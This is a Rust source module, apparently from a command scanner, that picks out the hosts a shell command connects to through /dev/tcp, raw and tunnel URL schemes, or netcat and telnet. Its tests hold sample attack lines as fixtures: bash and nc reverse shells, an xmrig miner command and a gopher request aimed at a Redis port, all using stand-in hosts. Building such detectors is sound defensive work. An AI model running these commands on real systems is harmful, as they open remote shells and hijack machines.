//! Machines that a command connects to and names without a URL of the web: `/dev/tcp/evil.example/443`, `nc evil.example 443`.

/// Schemes of plain connections, of tunnels and of what forged requests speak. What programs of one's own speak with one's own servers
/// (databases, queues, `ssh`) is not among them.
const SCHEMES: [&str; 12] = [
    "dict", "gopher", "rdp", "socks", "socks4", "socks4a", "socks5", "socks5h", "ssl", "tcp", "telnet", "udp",
];

/// Programs that are told a machine and its port.
const PROGRAMS: [&str; 6] = ["nc", "nc.openbsd", "nc.traditional", "ncat", "netcat", "telnet"];

/// Longest name of a machine.
const LONGEST: usize = 253;

/// Gives what may be the names of machines, each as a word without its port.
pub(super) fn hosts(text: &str) -> impl Iterator<Item = &str> {
    devices(text).chain(schemes(text)).chain(programs(text))
}

/// What the shell connects to where it is told to open such a file.
fn devices(text: &str) -> impl Iterator<Item = &str> {
    let behind = |(at, mark): (usize, &str)| {
        let (host, _port) = head(&text[at + mark.len()..]).split_once('/')?;
        Some(host)
    };
    ["/dev/tcp/", "/dev/udp/"]
        .into_iter()
        .flat_map(move |mark| text.match_indices(mark).filter_map(behind))
}

fn schemes(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices("://").filter_map(|(at, mark)| {
        let letters = text[..at]
            .bytes()
            .rev()
            .take_while(u8::is_ascii_alphanumeric)
            .take(LONGEST);
        let scheme = &text[at - letters.count()..at];
        if !SCHEMES.iter().any(|one| one.eq_ignore_ascii_case(scheme)) {
            return None;
        }
        let place = head(&text[at + mark.len()..]);
        let place = &place[..place.find(['/', '?', '#', ',']).unwrap_or(place.len())];
        let place = place.rsplit('@').next().unwrap_or(place);
        Some(place.split(':').next().unwrap_or(place))
    })
}

/// The word behind a program that a port follows. A number behind a switch is that of the switch: `-w 3`.
fn programs(text: &str) -> impl Iterator<Item = &str> {
    text.split(['\n', '\r', ';', '|', '&']).filter_map(|command| {
        let words = command.split(is_between).filter(|word| !word.is_empty());
        let (mut host, mut is_behind_a_switch): (Option<&str>, bool) = (None, false);
        for word in words.skip_while(|word| !is_program(word)).skip(1) {
            let is_number = word.len() <= 5 && word.parse::<u16>().is_ok();
            if is_number && host.is_some() && !is_behind_a_switch {
                return host.filter(|host| !is_a_file(host));
            }
            is_behind_a_switch = word.starts_with('-');
            if !is_number && !is_behind_a_switch {
                host = Some(word);
            }
        }
        None
    })
}

/// Whether a word is rather called as a file is: these are top-level domains, too, or may be.
fn is_a_file(word: &str) -> bool {
    const ENDS: [&str; 9] = ["cnf", "md", "pl", "py", "rb", "sh", "so", "tar", "wsgi"];
    let end = word.rsplit_once('.').map(|(_, end)| end);
    end.is_some_and(|end| ENDS.iter().any(|one| one.eq_ignore_ascii_case(end)))
}

fn is_program(word: &str) -> bool {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let name = match name
        .len()
        .checked_sub(".exe".len())
        .and_then(|at| name.split_at_checked(at))
    {
        Some((stem, end)) if end.eq_ignore_ascii_case(".exe") => stem,
        _ => name,
    };
    PROGRAMS.iter().any(|one| one.eq_ignore_ascii_case(name))
}

/// What a word ends at, for a shell and around it.
fn is_between(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '"' | '\'' | '`' | ';' | '|' | '&' | '<' | '>' | '(' | ')' | '{' | '}'
        )
}

/// The word that a text begins with, no longer than a machine with its port.
fn head(text: &str) -> &str {
    let text = crate::text::cut(text, LONGEST + "/65535".len());
    &text[..text.find(is_between).unwrap_or(text.len())]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn machines_are_found_however_a_command_names_them() {
        for (text, expected) in [
            ("bash -i >& /dev/tcp/evil.example/443 0>&1", &["evil.example"][..]),
            ("exec 5<>/dev/udp/a.example/53;cat <&5", &["a.example"]),
            (
                "xmrig -o stratum+tcp://pool.example:3333 -u x --proxy socks5://u:p@proxy.example:1080",
                &["pool.example", "proxy.example"],
            ),
            ("curl gopher://evil.example:6379/_x", &["evil.example"]),
            ("rm f;mkfifo f;nc -e /bin/sh evil.example 4444", &["evil.example"]),
            (r#"cmd /c "C:\t\NCAT.exe" evil.example 80 -e cmd"#, &["evil.example"]),
            ("sh -c 'telnet -4 evil.example 23'", &["evil.example"]),
            (
                "nc -w 3 a.example 443; nc -q 0 -X 5 b.example 80 -e sh",
                &["a.example", "b.example"],
            ),
        ] {
            assert_eq!(hosts(text).collect::<Vec<_>>(), expected, "{text}");
        }
        for text in [
            "ls /dev/tcp",
            "cat /dev/tcp/",
            "curl http://evil.example:80/",
            "psql postgres://db.example:5432",
            "nc -l 4444",
            "nc -zv evil.example",
            "nc -l 4444; run a.example 80",
            "command -v telnet || bash deploy.sh 5",
            "which nc; python3 manage.py 8000",
            "nc deploy.sh 5",
            "git clone ssh://git@code.example/x",
            "func evil.example 80",
            "://",
        ] {
            let found: Vec<_> = hosts(text).filter(|host| host.contains('.')).collect();
            assert_eq!(found, [] as [&str; 0], "{text}");
        }
    }
}
